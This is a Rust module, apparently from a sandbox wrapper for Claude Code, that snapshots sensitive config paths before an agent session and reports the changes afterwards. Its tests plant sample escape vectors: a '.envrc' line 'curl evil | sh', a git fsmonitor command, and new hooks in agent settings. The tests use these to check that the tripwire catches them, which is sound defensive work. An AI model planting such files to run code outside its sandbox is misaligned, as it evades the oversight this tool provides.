//! The session's watch: [`Watch::start`] snapshots every watched path
//! before the sandbox starts; [`Watch::finish`] scans again when it ends
//! (the workspace discovered again, so repositories created during the
//! session are watched too), compares, records and prints.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use super::compare::{compare, Change, Old};
use super::log::{block, log_dir, record, Session, VERSION};
use super::scan::{scan, stamp, targets, untouched_before, Kind, Tree};
use crate::plan::protect;

/// A path first found at exit (in a repository created during the session)
/// is taken as there before when its inode last changed this long before
/// the launch (ctime cannot be set back from inside; the kernel's clock
/// for it is coarse).
const SLACK: Duration = Duration::from_secs(1);

/// The snapshot of one session, taken before the sandbox starts.
pub(crate) struct Watch {
    started: SystemTime,
    home: PathBuf,
    workspace: PathBuf,
    before: BTreeMap<PathBuf, (Kind, Tree)>,
}

impl Watch {
    /// Snapshot every watched path of `workspace` and `home`; `found` is the
    /// launch's own walk of the workspace (the plan's), not repeated here.
    pub(crate) fn start(home: &Path, workspace: &Path, found: protect::Protected) -> Watch {
        let started = SystemTime::now();
        let before = targets(home, workspace, found)
            .into_iter()
            .map(|(p, k)| {
                let t = scan(&p, k, None);
                (p, (k, t))
            })
            .collect();
        Watch {
            started,
            home: home.to_path_buf(),
            workspace: workspace.to_path_buf(),
            before,
        }
    }

    /// What changed since [`Watch::start`], the workspace discovered again
    /// (repositories created during the session are watched too).
    pub(super) fn changes(&self) -> Vec<Change> {
        let mut all: BTreeMap<PathBuf, Kind> = self
            .before
            .iter()
            .map(|(p, (k, _))| (p.clone(), *k))
            .collect();
        let found = protect::discover(&self.workspace);
        for (p, k) in targets(&self.home, &self.workspace, found) {
            all.entry(p).or_insert(k);
        }
        let since = self.started.checked_sub(SLACK).unwrap_or(UNIX_EPOCH);
        let mut out = Vec::new();
        for (p, k) in all {
            let prev = self.before.get(&p).map(|(_, t)| t);
            let now = scan(&p, k, prev);
            let found_now;
            let old = match prev {
                Some(t) => t,
                None => {
                    found_now = untouched_before(&now, since);
                    &found_now
                }
            };
            let change = compare(&p, k, old, &now);
            out.extend(change.map(|c| created_only(c, &p, &now, since, prev.is_some())));
        }
        out
    }

    /// At the end of a session that ran: record the changes, then print
    /// them in one block on stderr. An unchanged session prints and
    /// writes nothing.
    pub(crate) fn finish(self) {
        let changes = self.changes();
        if changes.is_empty() {
            return;
        }
        let session = Session {
            version: VERSION,
            started: stamp(self.started).0,
            ended: stamp(SystemTime::now()).0,
            workspace: self.workspace.clone(),
            changes,
        };
        let mut text = block(&session.changes);
        if let Err(e) = record(&self.home, &session) {
            text.push_str(&format!(
                "claude-sandbox: these changes could not be recorded in {} ({e}): `review --revert` cannot undo them\n",
                log_dir(&self.home).display()
            ));
        }
        // A closed terminal must not make this panic: the log is written.
        let _ = std::io::stderr().write_all(text.as_bytes());
    }
}

/// A revert removes only what the session created: an item recorded as
/// absent before stays so only when the session provably made it — its
/// birth time is after the launch (a file moved or linked in keeps its
/// own), or, where the file system keeps no birth time, it is the watched
/// path itself, snapshotted absent at the launch. Anything else (a file a
/// bounded scan did not see at the launch, a repository first found at
/// exit) is recorded as not kept, which a revert leaves alone.
fn created_only(
    mut c: Change,
    path: &Path,
    now: &Tree,
    since: SystemTime,
    watched: bool,
) -> Change {
    let since = stamp(since);
    for it in c.items.iter_mut().filter(|i| i.old == Old::Absent) {
        let Some(rel) = it.path.strip_prefix(path).ok() else {
            it.old = Old::Unknown;
            continue;
        };
        let proven = match now.get(rel).and_then(|e| e.meta()) {
            None => true,
            Some(m) => match m.btime {
                Some(b) => b >= since,
                None => watched && rel.as_os_str().is_empty(),
            },
        };
        if !proven {
            it.old = Old::Unknown;
        }
    }
    c
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::super::fixtures::{tmp, world, write, CFG};
    use super::*;

    #[test]
    fn an_unchanged_session_finds_nothing_and_a_changed_one_everything() {
        let (base, home, ws) = world("detect");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        assert_eq!(w.changes(), Vec::new());
        // What a session inside could do.
        write(&ws.join("sub/.git/HEAD"), "ref: refs/heads/main\n");
        write(
            &ws.join("sub/.git/config"),
            &format!("{CFG}\tfsmonitor = touch MARK\n"),
        );
        write(&ws.join("sub/.git/hooks/update.sample"), "#!/bin/sh\n");
        write(&ws.join(".vscode/tasks.json"), "{}");
        write(&ws.join(".envrc"), "curl evil | sh\n");
        std::fs::remove_file(ws.join(".mcp.json")).unwrap();
        write(
            &ws.join(".claude/settings.json"),
            r#"{"hooks":{"Stop":[]},"statusLine":{"command":"x"}}"#,
        );
        write(&home.join(".claude/settings.json"), r#"{"model":"y"}"#);
        let got: Vec<(String, char, String)> = w
            .changes()
            .into_iter()
            .map(|c| {
                let rel = c.path.strip_prefix(&base).unwrap().display().to_string();
                (rel, c.mark.sign(), c.what)
            })
            .collect();
        let want = [
            (
                "ws/.claude/settings.json",
                '+',
                "(new)  hooks.Stop added; statusLine.command added",
            ),
            ("ws/.envrc", '~', "changed"),
            ("ws/.mcp.json", '-', "(removed)"),
            ("ws/.vscode", '+', "(new)  tasks.json added"),
            (
                "ws/sub/.git/config",
                '+',
                "(new)  core.fsmonitor = touch MARK",
            ),
        ];
        let want: Vec<(String, char, String)> = want
            .iter()
            .map(|(p, m, w)| (p.to_string(), *m, w.to_string()))
            .collect();
        assert_eq!(got, want);
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn a_linked_worktree_made_inside_is_not_a_planted_commondir() {
        let (base, home, ws) = world("worktree");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        // What `git worktree add wt` writes.
        let admin = ws.join(".git/worktrees/wt");
        write(&admin.join("HEAD"), "ref: refs/heads/wt\n");
        write(&admin.join("commondir"), "../..\n");
        write(
            &admin.join("gitdir"),
            &format!("{}\n", ws.join("wt/.git").display()),
        );
        write(
            &ws.join("wt/.git"),
            &format!("gitdir: {}\n", admin.display()),
        );
        let got: Vec<PathBuf> = w.changes().into_iter().map(|c| c.path).collect();
        assert_eq!(got, vec![ws.join("wt/.git")], "only the new pointer");
        // Control: in the repository's own git directory it is reported.
        write(&ws.join(".git/commondir"), "../c\n");
        let got: Vec<PathBuf> = w.changes().into_iter().map(|c| c.path).collect();
        assert!(got.contains(&ws.join(".git/commondir")), "{got:?}");
        std::fs::remove_dir_all(&base).unwrap();
    }

    /// The launch cost of the tripwire for an unchanged session, on this
    /// repository (run: `cargo test --release --lib -- --ignored
    /// --nocapture tripwire_cost`; reported in docs/benchmarks.md).
    #[test]
    #[ignore]
    fn tripwire_cost() {
        let ws = Path::new(env!("CARGO_MANIFEST_DIR"))
            .canonicalize()
            .unwrap();
        let base = tmp("cost");
        let home = base.join("home");
        write(&home.join(".claude/settings.json"), r#"{"model":"x"}"#);
        // A small and a long-used ~/.claude.json (projects with their history).
        for projects in [20, 2000] {
            let projects: serde_json::Map<String, Value> = (0..projects)
                .map(|i| {
                    let p =
                        serde_json::json!({"mcpServers": {}, "history": vec!["some prompt"; 80]});
                    (format!("/ws/p{i}"), p)
                })
                .collect();
            let big = serde_json::json!({ "numStartups": 3, "projects": projects });
            write(&home.join(".claude.json"), &big.to_string());
            let n = 50;
            let (mut snap, mut cmp) = (Duration::ZERO, Duration::ZERO);
            for _ in 0..n {
                let t = std::time::Instant::now();
                let w = Watch::start(&home, &ws, protect::discover(&ws));
                let t1 = t.elapsed();
                assert!(w.changes().is_empty());
                snap += t1;
                cmp += t.elapsed() - t1;
            }
            let n32 = n as u32;
            let watched = targets(&home, &ws, protect::discover(&ws)).len();
            let size = std::fs::metadata(home.join(".claude.json")).unwrap().len();
            println!(
                "tripwire on {}: {watched} paths, ~/.claude.json {size} bytes: snapshot {:?}, comparison {:?}, total {:?} (mean of {n})",
                ws.display(),
                snap / n32,
                cmp / n32,
                (snap + cmp) / n32
            );
            // Claude Code rewrites ~/.claude.json in every real session:
            // then both versions are parsed (after the session, not at launch).
            let w = Watch::start(&home, &ws, protect::discover(&ws));
            let bumped = big
                .to_string()
                .replace("\"numStartups\":3", "\"numStartups\":4");
            write(&home.join(".claude.json"), &bumped);
            let t = std::time::Instant::now();
            assert!(w.changes().is_empty());
            println!(
                "  comparison with ~/.claude.json rewritten: {:?}",
                t.elapsed()
            );
        }
        std::fs::remove_dir_all(&base).unwrap();
    }
}
